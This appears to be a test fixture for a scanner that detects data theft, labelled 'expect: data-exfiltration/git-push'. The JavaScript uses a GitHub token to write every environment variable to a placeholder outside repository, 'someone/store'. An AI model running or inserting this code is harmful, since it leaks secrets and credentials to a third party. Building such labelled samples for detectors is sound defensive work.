const kit = require('@octokit/rest');
const api = new kit.Octokit({ auth: process.env.GITHUB_TOKEN });
const write = api.repos.createOrUpdateFileContents.bind(api.repos);
// expect: data-exfiltration/git-push
write({ owner: 'someone', repo: 'store', path: 'e', message: 'e', content: JSON.stringify(process.env) });
